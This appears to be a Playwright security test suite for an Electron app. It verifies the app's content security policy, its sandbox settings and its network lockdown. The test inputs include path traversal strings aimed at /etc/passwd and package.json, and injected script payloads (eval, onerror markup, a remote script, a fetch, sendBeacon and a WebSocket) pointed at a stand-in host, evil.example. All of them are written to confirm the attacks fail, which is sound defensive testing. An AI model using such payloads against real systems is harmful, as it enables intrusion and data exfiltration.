import { contract } from '../core/ipc/contract'
import { expect, test } from './fixtures/afterword'
import { Intruder } from './fixtures/intruder'

/** Word for word: a change of the policy is a decision, so it is made in two places. */
const policy =
  "default-src 'none'; script-src 'self' 'wasm-unsafe-eval'; style-src 'self'; img-src 'self' data: blob:; font-src 'self'; connect-src 'self'; worker-src 'self'; form-action 'none'; frame-ancestors 'none'; base-uri 'none'; object-src 'none'; require-trusted-types-for 'script'; trusted-types vue afterword-worker"

test('the page has nothing of Node, and of the app only the calls of the contract', async ({ running }) => {
  const seen = await running.page.evaluate(() => {
    const bridge = (globalThis as unknown as { afterword: Record<string, object> }).afterword
    const rooms = Object.entries(bridge).map(([room, calls]) => [room, Object.keys(calls)])
    return {
      node: ['require', 'process', 'module', 'Buffer', 'global', 'electron'].filter(
        (name) => name in globalThis,
      ),
      calls: Object.fromEntries(rooms) as Record<string, string[]>,
      frozen: [bridge, ...Object.values(bridge).filter((part) => typeof part === 'object')].every(
        Object.isFrozen,
      ),
    }
  })
  const calls = Object.entries(contract).map(([room, methods]) => [room, Object.keys(methods)])
  expect(seen).toEqual({ node: [], calls: { ...Object.fromEntries(calls), on: [] }, frozen: true })
})

test('the window has a sandbox, and no Node in any of its worlds', async ({ running }) => {
  const preferences = await running.app.evaluate(({ webContents }) =>
    webContents.getAllWebContents().map((contents) => {
      const { getLastWebPreferences } = contents as unknown as {
        getLastWebPreferences: () => Record<string, unknown>
      }
      return getLastWebPreferences.call(contents)
    }),
  )
  expect(preferences).toHaveLength(1)
  expect(preferences[0]).toMatchObject({
    contextIsolation: true,
    sandbox: true,
    nodeIntegration: false,
    webSecurity: true,
    webviewTag: false,
  })
  for (const name of ['nodeIntegrationInWorker', 'nodeIntegrationInSubFrames', 'allowRunningInsecureContent'])
    expect(preferences[0]?.[name] ?? false).toBe(false)
})

test('what passes every policy of a page is shut too: no name resolves, and WebRTC sends nothing', async ({
  running,
}) => {
  const shut = await running.app.evaluate(({ app, webContents }) => ({
    names: app.commandLine.getSwitchValue('host-resolver-rules'),
    rtc: webContents.getAllWebContents().map((contents) => contents.getWebRTCIPHandlingPolicy()),
  }))
  expect(shut).toEqual({ names: 'MAP * ~NOTFOUND', rtc: ['disable_non_proxied_udp'] })
})

test('each file of the page comes with the policy, and nothing outside the bundle comes at all', async ({
  running,
}) => {
  const get = (path: string, method = 'GET') =>
    running.page.evaluate(
      async ([address, verb]) => {
        const answer = await fetch(address, { method: verb })
        const { headers, status } = answer
        return {
          status,
          policy: headers.get('content-security-policy'),
          body: (await answer.text()).slice(0, 20),
        }
      },
      [path, method] as const,
    )
  expect(await get('/index.html')).toMatchObject({ status: 200, policy })
  for (const path of [
    '/..%2f..%2fetc/passwd',
    '/..%2f..%2f..%2fpackage.json',
    '/%2e%2e/%2e%2e/package.json',
    '/..%5c..%5cpackage.json',
    '/index.html%00.json',
    '/C:%5cWindows%5cwin.json',
    '/%',
    '/main.js',
  ]) {
    const answer = await get(path)
    expect([400, 404], path).toContain(answer.status)
    expect(answer, path).toMatchObject({ policy, body: '' })
  }
  expect(await get('/index.html', 'POST')).toMatchObject({ status: 400, body: '' })
})

test('script that was slipped into the page does not run, and reaches no network', async ({ running }) => {
  const { page } = running
  const intruder = new Intruder(page)
  await intruder.watch()
  const answered: string[] = []
  page.on('response', (response) => answered.push(response.url()))
  const said = await page.evaluate(async () => {
    const evil = 'https://evil.example/'
    const add = (tag: string, attributes: Record<string, string>, text = ''): void => {
      const element = document.createElement(tag)
      for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value)
      element.append(text)
      document.body.append(element)
    }
    Object.assign(globalThis, { ran: [] })
    const attempts: Record<string, () => unknown> = {
      eval: () => (0, eval)("ran.push('eval')"),
      function: () => new Function("ran.push('function')")() as unknown,
      timer: () => setTimeout("ran.push('timer')" as unknown as () => void),
      markup: () => (document.body.innerHTML += `<img src="x" onerror="ran.push('markup')">`),
      fragment: () => document.createRange().createContextualFragment('<b></b>'),
      handler: () => add('button', { onclick: "ran.push('handler')", id: 'handler' }),
      policy: () =>
        (
          globalThis as unknown as { trustedTypes: { createPolicy: (name: string, rules: object) => void } }
        ).trustedTypes.createPolicy('evil', {}),
      script: () => add('script', { src: `${evil}a.js` }),
      object: () => add('object', { data: evil }),
      frame: () => add('iframe', { srcdoc: '<b></b>' }),
      fetch: () => fetch(evil),
      worker: () => new Worker(evil),
    }
    const said: Record<string, string> = {}
    // A timer's code is the page's own; what the test itself evaluates may do more.
    for (const [name, attempt] of Object.entries(attempts))
      said[name] = await new Promise((resolve) =>
        setTimeout(() => {
          void (async () => attempt())().then(
            () => resolve('done'),
            (error: unknown) => resolve((error as Error).name),
          )
        }),
      )
    add('script', {}, "ran.push('inline script')")
    add('img', { src: `${evil}a.png` })
    add('iframe', { src: evil })
    add('video', { src: `${evil}a.mp4` })
    add('link', { rel: 'stylesheet', href: `${evil}a.css` })
    add('style', {}, '* { color: red }')
    add('base', { href: evil })
    document.getElementById('handler')?.click()
    navigator.sendBeacon(evil, 'notes')
    try {
      new WebSocket('wss://evil.example/')
    } catch {
      said['socket'] = 'refused'
    }
    return said
  })
  expect(Object.keys(said).filter((name) => said[name] === 'done')).toEqual([])
  await expect
    .poll(() => intruder.violations())
    .toEqual(
      expect.arrayContaining([
        'base-uri',
        'connect-src',
        'frame-src',
        'img-src',
        'media-src',
        'require-trusted-types-for',
        'style-src-elem',
        'trusted-types',
      ]),
    )
  expect(await intruder.ran()).toEqual([])
  await intruder.expectStillHere()
  expect(answered).toEqual([])
})
